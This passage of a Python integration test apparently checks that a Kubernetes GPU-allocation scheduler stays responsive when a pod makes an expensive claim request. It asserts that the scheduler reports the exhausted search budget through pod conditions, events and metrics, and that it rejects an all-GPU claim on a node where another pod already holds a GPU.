    claims = [*({"name": f"one-{i}", "resourceClaimTemplateName": "one-gpu"}
                for i in range(AHEAD)),
              {"name": "all", "resourceClaimTemplateName": "all-gpus"}]
    apply(cluster.plane, cluster.pod(hostile, claims))
    searching = 'kdra_scheduler_schedule_attempts_total{result="searching"}'
    wait_for(lambda: cluster.metric(searching) >= 1, timeout=60, interval=0.5,
             what="the hostile pod's search handed to the background")
    # Meanwhile other pods get devices and are bound, before the search gives up.
    others = [cluster.one_gpu_pod("meanwhile") for _ in range(3)]
    for name in others:
        cluster.wait_bound(name)
    assert cluster.condition(hostile).get("reason") != "AllocationSearchExhausted"
    condition = wait_for(
        lambda: (c := cluster.condition(hostile)).get("reason") == "AllocationSearchExhausted"
        and c, timeout=SEARCH_TIMEOUT + 90, interval=1, what="AllocationSearchExhausted")
    message = condition["message"]
    assert message.startswith(f"allocation search for claims '{hostile}-one-0-")
    assert (f"exhausted its budget (1000000000 steps, 500000000 per node, {SEARCH_TIMEOUT}s; "
            f"spent ") in message, message
    assert "without finding a placement; retrying later. 0/" in message
    events = get_json(cluster.plane, "events", "-n", cluster.namespace, "--field-selector",
                      f"involvedObject.name={hostile}")["items"]
    assert any(e["reason"] == "FailedScheduling" and "exhausted its budget" in e["message"]
               for e in events)
    assert cluster.metric('kdra_allocator_search_exhausted_total{limit="deadline"}') >= 1
    # The shape upstream stops at once: an All claim on a node where another pod holds a GPU.
    everything = "everything"
    held = cluster.get_pod(others[0])["spec"]["nodeName"]
    pod = cluster.pod(everything, [{"name": "all", "resourceClaimTemplateName": "all-gpus"}])
    pod["spec"]["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"][
        "nodeSelectorTerms"][0]["matchExpressions"][0]["values"] = [held]
    apply(cluster.plane, pod)
    reported = wait_for(lambda: (c := cluster.condition(everything)).get("reason") and c,
                        timeout=60, interval=0.5, what="the All pod reported")
    assert reported["reason"] == "Unschedulable"
    assert "matching devices partly allocated" in reported["message"]
    for name in (hostile, everything, *others):
        cluster.delete_pod(name)
    cluster.after_attack()
